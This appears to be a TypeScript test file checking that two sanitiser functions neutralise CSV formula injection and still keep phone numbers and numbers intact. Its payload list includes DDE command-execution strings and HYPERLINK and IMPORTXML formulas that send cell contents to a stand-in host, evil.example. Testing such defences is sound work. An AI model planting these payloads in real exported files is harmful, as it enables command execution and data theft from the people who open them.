import {describe, it} from "node:test";
import assert from "node:assert/strict";
import {join} from "node:path";
import {readFileSync} from "node:fs";
import {openDb} from "../../../loaders/db/connection.ts";
import {literal} from "../../../loaders/db/sql.ts";
import {spreadsheetSafeSql} from "../../../loaders/db/spreadsheet.ts";
import {safeCellText} from "../../../src/lib/spreadsheet.js";
import {tempDir} from "../../support/temp.ts";

/** OWASP's CSV injection payloads and friends. */
const INJECTIONS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "\t=1+1",
  "\r=1+1",
  "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
  "+A1",
  "-A1",
  "@A1"
];
const USABLE = ["+33 6 12 34 56 78", "+33612345678", "+1 (415) 555-0100", "-12.5", "+7", "42", "06 12 34 56 78", "3,14", "1e5", "Dupont", "j***@g***.com"];

describe("spreadsheetSafeSql(expr) and safeCellText(text)", () => {
  it("neutralise every formula and keep numbers and phone numbers as they are, in SQL and in JavaScript alike", async () => {
    const dir = tempDir();
    const db = await openDb({tempDirectory: join(dir, "duckdb")});
    try {
      const values = [...INJECTIONS, ...USABLE];
      await db.exec(`CREATE TABLE cells AS SELECT unnest([${values.map(literal).join(", ")}]) AS v, generate_subscripts([${values.map(literal).join(", ")}], 1) AS i`);
      const path = join(dir, "out.csv");
      await db.exec(`COPY (SELECT ${spreadsheetSafeSql("v")} AS v FROM cells ORDER BY i) TO ${literal(path)} (HEADER)`);
      const back = (await db.all<{v: string}>(`SELECT v FROM read_csv(${literal(path)}, all_varchar = true, quote = '"', escape = '"', strict_mode = false)`)).map((r) => r.v);
      assert.equal(back.length, values.length, readFileSync(path, "utf8"));
      for (const [i, value] of values.entries()) {
        const expected = INJECTIONS.includes(value) ? `'${value}` : value;
        assert.equal(safeCellText(value), expected, `JavaScript: ${JSON.stringify(value)}`);
        const sql = (await db.one<{v: string}>(`SELECT ${spreadsheetSafeSql(literal(value))} AS v`))!.v;
        assert.equal(sql, expected, `SQL: ${JSON.stringify(value)}`);
        if (!/[\r\t]/.test(value)) assert.equal(back[i], expected, `CSV file: ${JSON.stringify(value)}`);
      }
    } finally {
      await db.close();
    }
  });
});
